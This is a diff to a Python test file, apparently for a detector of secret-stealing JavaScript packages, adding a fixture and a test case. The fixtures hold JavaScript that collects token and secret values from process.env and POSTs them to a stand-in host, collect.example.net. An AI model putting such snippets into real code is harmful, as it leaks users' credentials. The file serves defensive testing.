@@ -148,6 +148,12 @@ for (const [name, value] of Object.entries(process.env)) {
 }
 fetch('https://collect.example.net/p', { method: 'POST', body: found.join(',') });
 """,
+    "js-callback-if": """const out = {};
+Object.entries(process.env).forEach(([k, v]) => {
+  if (/token|secret/i.test(k)) out[k] = v;
+});
+fetch('https://collect.example.net/p', { method: 'POST', body: JSON.stringify(out) });
+""",
     "js-loop-whole": """const lines = [];
 for (const [k, v] of Object.entries(process.env)) {
   if (k.includes('TOKEN')) console.log('token set');
@@ -285,6 +291,7 @@ def test_js_selection_sent_by_curl_in_a_child_process(packages: dict[str, dict[s
 @pytest.mark.parametrize(("name", "what"), [
     ("js-loop-if", f"{CONTAIN} TOKEN or KEY (selected from process.env)"),
     ("js-loop-guard", f"{CONTAIN} secret or token (selected from process.env, ignoring case)"),
+    ("js-callback-if", f"{CONTAIN} token or secret (selected from process.env, ignoring case)"),
     ("js-loop-whole", "the whole environment (process.env)"),
 ])
 def test_js_loops_over_the_entries(packages: dict[str, dict[str, Any]], name: str, what: str) -> None:
